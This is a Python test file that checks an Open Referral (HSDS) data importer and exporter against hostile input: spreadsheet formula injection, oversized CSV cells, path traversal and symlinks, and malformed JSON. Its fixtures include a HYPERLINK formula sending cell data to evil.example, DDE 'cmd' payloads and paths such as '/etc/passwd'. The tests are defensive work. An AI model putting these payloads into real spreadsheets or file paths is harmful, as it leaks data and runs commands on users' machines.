"""Nothing read or written as Open Referral can be turned against its reader (issue 14).

The CSV package never carries a cell a spreadsheet would run as a formula, and our own
importer reads back exactly what was exported; a huge CSV cell is a clear refusal naming the
file, row and column; no path a package names (nor a link in the folder) leads outside the
folder the user named; and hostile JSON (huge numbers, odd shapes, thousands of terms) is
imported or refused, never a traceback. docs/hsds.md ("The CSV package is safe to open") and
docs/reliability.md ("Hostile and broken input") state these promises.
"""

from __future__ import annotations

import csv
import json
import os
import time
import uuid
from pathlib import Path
from typing import Any

import pytest

from asset_map.directory.facade import Directory
from asset_map.directory.hsds_export import export_hsds
from asset_map.directory.hsds_import import import_hsds
from asset_map.interop.errors import FileRejected
from asset_map.interop.hsds import schemas
from asset_map.interop.hsds.feeds import MAX_CELL_CHARS, read_feed
from asset_map.interop.hsds.tabular import FORMULA_STARTS, TABLES, TYPES, cell, from_cell
from asset_map.interop.hsds.terms import NeedWords, read_terms
from tests.conftest import CliRun, OpenDirectory, record, write_json

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
IMPORTXML = '=IMPORTXML("http://evil.example/x","//a")'


def hostile_records() -> list[dict[str, Any]]:
    """Entries whose text a spreadsheet would run, and the legitimate look-alikes."""
    return [
        record(name=HYPERLINK, cost="paid", cost_note=IMPORTXML, phone="+44 1375 000 123"),
        record(name="@SUM(1+1)*cmd|' /C calc'!A0", description="-2+3+cmd|' /C calc'!A0"),
        record(name="'=already quoted", summary="'Tis the season", organisation="+Plus Ltd"),
        record(name="Tilbury Lunch", description="  =1+1 after spaces", phone="01375 000 456"),
        record(name="West End", locality="Tilbury", latitude=51.46, longitude=-0.012),
    ]


def cells(folder: Path) -> list[tuple[str, str, str]]:
    """(file, column, cell) for every cell of every CSV file of a package, as written."""
    found = []
    for filename, columns in TABLES.values():
        with (folder / filename).open(encoding="utf-8", newline="") as handle:
            for row in csv.DictReader(handle):
                found += [(filename, c, row[c]) for c in columns]
    return found


def would_run(text: str) -> bool:
    """What a spreadsheet may run as a formula (OWASP's list, also after leading spaces)."""
    return text.startswith(FORMULA_STARTS) or text.lstrip().startswith(FORMULA_STARTS[:4])


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def service_row(sid: str, name: str = "Tilbury Knit and Natter", **extra: str) -> dict[str, str]:
    return {"id": sid, "name": name, "status": "active"} | extra


def write_package(folder: Path, services: list[dict[str, str]], **files: str) -> Path:
    """A small CSV package: services (in Tilbury), their locations and addresses, extra files."""
    folder.mkdir(parents=True, exist_ok=True)
    tables: dict[str, list[dict[str, str]]] = {"service": services, "location": [], "address": []}
    tables["service_at_location"] = []
    for service in services:
        lid = str(uuid.uuid4())
        tables["location"].append({"id": lid, "name": "Civic Square"})
        tables["address"].append(
            {"id": str(uuid.uuid4()), "location_id": lid, "city": "Tilbury", "postal_code": "RM18 7NR"}
        )
        tables["service_at_location"].append(
            {"id": str(uuid.uuid4()), "service_id": service["id"], "location_id": lid}
        )
    for name, rows in tables.items():
        filename, columns = TABLES[name]
        with (folder / filename).open("w", encoding="utf-8", newline="") as handle:
            writer = csv.DictWriter(handle, fieldnames=columns)
            writer.writeheader()
            writer.writerows(rows)
    for filename, text in files.items():
        (folder / filename).write_text(text, "utf-8")
    return folder


def package_pointing_at(folder: Path, path: Any) -> Path:
    """A package whose datapackage.json gives `path` as the services table's file."""
    descriptor = {
        "resources": [{"name": "service", "path": path}, {"name": "location", "path": "locations.csv"}]
    }
    return write_package(
        folder, [service_row(str(uuid.uuid4()))], **{"datapackage.json": json.dumps(descriptor)}
    )


# ---------------------------------------------------------------- 1. formulas in the CSV export


def test_no_cell_of_the_csv_export_would_run_as_a_formula(
    open_directory: OpenDirectory, tmp_path: Path
) -> None:
    directory = open_directory(hostile_records())
    export_hsds(directory, tmp_path / "package", tabular=True)
    written = cells(tmp_path / "package")
    running = [
        (f, c, v) for f, c, v in written if would_run(v) and not (TYPES.get(c) == "number" and is_number(v))
    ]
    assert running == []
    services = {v for f, c, v in written if (f, c) == ("services.csv", "name")}
    assert "'" + HYPERLINK in services and "''=already quoted" in services
    assert {v for f, c, v in written if c == "fees"} >= {"'" + IMPORTXML}
    phones = {v for f, c, v in written if (f, c) == ("phones.csv", "number")}
    assert phones == {"'+44 1375 000 123", "01375 000 456"}  # the quote shows it is text
    assert "-0.012" in {v for f, c, v in written if c == "longitude"}  # a number stays a number


def test_our_csv_export_reads_back_exactly(open_directory: OpenDirectory, tmp_path: Path) -> None:
    directory = open_directory(hostile_records())
    export_hsds(directory, tmp_path / "first.json")
    export_hsds(directory, tmp_path / "package", tabular=True)
    fresh = open_directory([])
    report = import_hsds(fresh, tmp_path / "package", user="Importer")
    assert (report.added, report.skipped) == (5, [])
    assert {a.name for a in fresh.all_assets()} >= {HYPERLINK, "'=already quoted"}
    assert {a.phone for a in fresh.all_assets()} >= {"+44 1375 000 123"}
    export_hsds(fresh, tmp_path / "again.json")
    assert json.loads((tmp_path / "again.json").read_text("utf-8")) == json.loads(
        (tmp_path / "first.json").read_text("utf-8")
    )


@pytest.mark.parametrize("profile", ["hsds-3.0", "oruk-3.0"])
def test_the_guarded_csv_still_passes_the_tabular_checks(
    open_directory: OpenDirectory, tmp_path: Path, profile: str
) -> None:
    try:
        schemas.shared_dir()
    except schemas.SchemaFilesMissing as exc:
        pytest.skip(str(exc))
    export_hsds(open_directory(hostile_records()), tmp_path / "package", tabular=True)
    assert schemas.tabular_errors(tmp_path / "package", profile) == []


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 1375 000 123", "'+44 1375 000 123"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("  =x", "'  =x"),
        ("'", "''"),
        ("'=x", "''=x"),
        ("'Tis", "''Tis"),
        ("Tilbury", "Tilbury"),
        ("", ""),
    ],
)
def test_the_guard_rule(value: str, written: str) -> None:
    assert cell(value, "name") == written
    assert from_cell(written) == value


def test_a_foreign_cell_keeps_a_quote_that_guards_nothing() -> None:
    assert from_cell("'Tis the season") == "'Tis the season"  # another publisher's apostrophe
    assert from_cell("'+44 1375 000 123") == "+44 1375 000 123"  # another publisher's guard
    assert cell(-0.35, "longitude") == "-0.35" and cell("-0.35", "name") == "'-0.35"


def test_the_command_line_export_guards_formulas(cli: CliRun, tmp_path: Path) -> None:
    path = write_json(tmp_path / "new.json", record(name=HYPERLINK, cost="paid", cost_note=IMPORTXML))
    assert cli("add", "--from-json", path)[0] == 0
    assert cli("export", "--format", "hsds-csv", tmp_path / "out")[0] == 0
    with (tmp_path / "out" / "services.csv").open(encoding="utf-8", newline="") as handle:
        rows = [row for row in csv.DictReader(handle) if HYPERLINK in row["name"]]
    assert [(r["name"], r["fees"], r["fees_description"]) for r in rows] == [
        ("'" + HYPERLINK, "'" + IMPORTXML, "'" + IMPORTXML)
    ]


# ---------------------------------------------------------------- 2. a huge CSV cell


def test_a_200000_character_cell_is_refused_naming_file_row_and_column(
    empty_directory: Directory, tmp_path: Path
) -> None:
    sid = str(uuid.uuid4())
    folder = write_package(tmp_path / "pkg", [service_row(sid, description="x" * 200_000)])
    with pytest.raises(FileRejected) as caught:
        import_hsds(empty_directory, folder, user="Importer")
    message = str(caught.value)
    assert "services.csv" in message and "row 2" in message and "'description'" in message
    assert f"{MAX_CELL_CHARS:,}" in message and "x" * 100 not in message
    assert empty_directory.all_assets() == []


def test_a_huge_cell_on_the_command_line_is_one_clear_message(cli: CliRun, tmp_path: Path) -> None:
    folder = write_package(tmp_path / "pkg", [service_row(str(uuid.uuid4()), fees="£" * 200_000)])
    code, _, err = cli("import", "--format", "hsds", folder)
    assert code == 1 and "Traceback" not in err and len(err) < 1000
    assert "services.csv" in err and "row 2" in err and "'fees'" in err


def test_a_long_cell_within_the_limit_is_cut_to_its_field_naming_record_and_field(
    empty_directory: Directory, tmp_path: Path
) -> None:
    folder = write_package(tmp_path / "pkg", [service_row(str(uuid.uuid4()), description="word " * 12_000)])
    report = import_hsds(empty_directory, folder, user="Importer")
    assert report.added == 1
    assert any(
        w.record == 1 and w.field == "description" and "cut to 5000" in w.message for w in report.warnings
    )


def test_the_csv_field_limit_is_put_back_after_reading(empty_directory: Directory, tmp_path: Path) -> None:
    before = csv.field_size_limit()
    folder = write_package(tmp_path / "pkg", [service_row(str(uuid.uuid4()), description="x" * 200_000)])
    with pytest.raises(FileRejected):
        import_hsds(empty_directory, folder, user="Importer")
    assert csv.field_size_limit() == before


# ---------------------------------------------------------------- 3. paths that lead outside


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A services table outside the package's folder, which must never be read."""
    target = tmp_path / "elsewhere" / "x.csv"
    write_package(target.parent, [service_row(str(uuid.uuid4()), name="Read from outside")])
    (target.parent / "services.csv").rename(target)
    return target


@pytest.mark.parametrize(
    "path",
    [
        "/etc/passwd",
        "../elsewhere/x.csv",
        "../../elsewhere/x.csv",
        "ok/../../elsewhere/x.csv",
        "..\\elsewhere\\x.csv",
        "C:\\Windows\\win.ini",
        "C:services.csv",
        "\\\\server\\share\\services.csv",
        "https://evil.example/services.csv",
        ["services.csv", "/etc/passwd"],
    ],
)
def test_a_datapackage_path_leading_outside_its_folder_is_refused(
    empty_directory: Directory, tmp_path: Path, outside: Path, path: Any
) -> None:
    folder = package_pointing_at(tmp_path / "pkg", path)
    with pytest.raises(
        FileRejected, match=r"(?s)datapackage\.json.*resource 1 \('service'\): path"
    ) as caught:
        import_hsds(empty_directory, folder, user="Importer")
    assert "outside" in str(caught.value) or "web address" in str(caught.value)
    assert empty_directory.all_assets() == []


def test_a_datapackage_path_through_a_link_leading_outside_is_refused(
    empty_directory: Directory, tmp_path: Path, outside: Path
) -> None:
    folder = package_pointing_at(tmp_path / "pkg", "linked/x.csv")
    (folder / "linked").symlink_to(outside.parent, target_is_directory=True)
    with pytest.raises(FileRejected, match=r"resource 1 \('service'\): path 'linked/x.csv' is a link"):
        import_hsds(empty_directory, folder, user="Importer")


def test_a_path_inside_the_folder_is_read(empty_directory: Directory, tmp_path: Path) -> None:
    folder = write_package(tmp_path / "pkg", [service_row(str(uuid.uuid4()), name="Read from inside")])
    (folder / "tables").mkdir()
    (folder / "services.csv").rename(folder / "tables" / "svc.csv")
    descriptor = {"resources": [{"name": "service", "path": "tables/./svc.csv"}]}
    (folder / "datapackage.json").write_text(json.dumps(descriptor), "utf-8")
    import_hsds(empty_directory, folder, user="Importer")
    assert [a.name for a in empty_directory.all_assets()] == ["Read from inside"]


@pytest.mark.parametrize("name", ["services.csv", "datapackage.json"])
def test_a_file_of_the_package_linked_outside_is_refused(
    empty_directory: Directory, tmp_path: Path, outside: Path, name: str
) -> None:
    folder = write_package(tmp_path / "pkg", [service_row(str(uuid.uuid4()))])
    (folder / name).unlink(missing_ok=True)
    (folder / name).symlink_to(outside)
    with pytest.raises(FileRejected, match="a link to a file outside"):
        import_hsds(empty_directory, folder, user="Importer")
    assert empty_directory.all_assets() == []


def test_a_json_file_of_a_folder_linked_outside_is_refused(
    empty_directory: Directory, tmp_path: Path
) -> None:
    secret = write_json(tmp_path / "private" / "secret.json", {"name": "Private", "status": "active"})
    (tmp_path / "feed").mkdir()
    (tmp_path / "feed" / "page.json").symlink_to(secret)
    with pytest.raises(FileRejected, match="a link to a file outside"):
        import_hsds(empty_directory, tmp_path / "feed", user="Importer")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are a POSIX thing")
def test_a_named_pipe_is_refused_not_read_for_ever(empty_directory: Directory, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "feed.json")
    with pytest.raises(FileRejected, match="neither a file nor a folder"):
        import_hsds(empty_directory, tmp_path / "feed.json", user="Importer")


# ---------------------------------------------------------------- 4. hostile JSON


def json_service(**fields: Any) -> dict[str, Any]:
    location = {"addresses": [{"city": "Tilbury", "postal_code": "RM18 7NR"}]}
    return (
        {"id": str(uuid.uuid4()), "name": "Knit", "status": "active"}
        | {"service_at_locations": [{"location": location}]}
        | fields
    )


def test_an_integer_too_long_to_read_is_refused(empty_directory: Directory, tmp_path: Path) -> None:
    text = json.dumps({"contents": [json_service(minimum_age=1)]}).replace(
        '"minimum_age": 1', '"minimum_age": ' + "9" * 5000
    )
    (tmp_path / "feed.json").write_text(text, "utf-8")
    with pytest.raises(FileRejected, match="4300 digits"):
        import_hsds(empty_directory, tmp_path / "feed.json", user="Importer")


@pytest.mark.parametrize(
    "fields",
    [
        {"minimum_age": 10**400},
        {"maximum_age": -(10**400)},
        {"cost_options": [{"amount": 10**400, "option": "Lunch"}]},
        {
            "service_at_locations": [
                {"location": {"latitude": 10**400, "longitude": 10**400, "name": "Tilbury"}}
            ]
        },
    ],
    ids=["minimum_age", "maximum_age", "amount", "coordinates"],
)
def test_numbers_too_large_for_a_float_are_dropped_not_a_crash(
    empty_directory: Directory, tmp_path: Path, fields: dict[str, Any]
) -> None:
    path = write_json(tmp_path / "feed.json", {"contents": [json_service(**fields)]})
    report = import_hsds(empty_directory, path, user="Importer")
    assert (report.added, report.skipped) == (1, [])
    (asset,) = empty_directory.all_assets()
    assert (asset.age_min, asset.age_max, asset.latitude) == (None, None, None)


@pytest.mark.parametrize("value", [True, 5, 1.5])
@pytest.mark.parametrize("key", ["service_at_locations", "attributes", "cost_options", "addresses"])
def test_a_number_where_a_list_belongs_is_no_crash(
    empty_directory: Directory, tmp_path: Path, key: str, value: Any
) -> None:
    service = json_service(**({} if key == "addresses" else {key: value}))
    if key == "addresses":
        service["service_at_locations"][0]["location"] = {"addresses": value, "name": "Tilbury"}
    report = import_hsds(empty_directory, write_json(tmp_path / "feed.json", service), user="Importer")
    assert (report.added, report.skipped) == (1, [])  # no place given: kept, without a place, no crash


@pytest.mark.parametrize("table", ["a string", {"id": "x"}, [1, "two", None], None])
def test_a_tabular_json_table_that_is_not_a_list_of_rows_is_refused_or_skipped(
    empty_directory: Directory, tmp_path: Path, table: Any
) -> None:
    path = write_json(tmp_path / "feed.json", {"services.csv": table, "organizations.csv": "x"})
    with pytest.raises(FileRejected, match="no services found"):
        import_hsds(empty_directory, path, user="Importer")


def test_tabular_json_rows_beside_junk_are_read(tmp_path: Path) -> None:
    sid = str(uuid.uuid4())
    path = write_json(tmp_path / "feed.json", {"services.csv": [service_row(sid), 7], "phones.csv": "junk"})
    feed = read_feed(path)
    assert [s["id"] for s in feed.services] == [sid]
    assert any("phones.csv is not a list of rows (objects); the rest is left out" in n for n in feed.notes)


def test_a_datapackage_resource_named_by_a_list_is_no_crash(
    empty_directory: Directory, tmp_path: Path
) -> None:
    descriptor = {"resources": [{"name": ["service"], "path": "services.csv"}, "junk", {"path": None}]}
    folder = write_package(
        tmp_path / "pkg", [service_row(str(uuid.uuid4()))], **{"datapackage.json": json.dumps(descriptor)}
    )
    assert import_hsds(empty_directory, folder, user="Importer").added == 1


def test_tens_of_thousands_of_terms_are_read_in_a_moment() -> None:
    attributes = [{"taxonomy_term": {"name": f"term {i}", "taxonomy": "tags"}} for i in range(50_000)]
    started = time.perf_counter()
    read = read_terms(attributes, NeedWords([]))
    assert len(read.kept) == 50_000
    assert time.perf_counter() - started < 10  # kept terms were compared pairwise: about 30 s
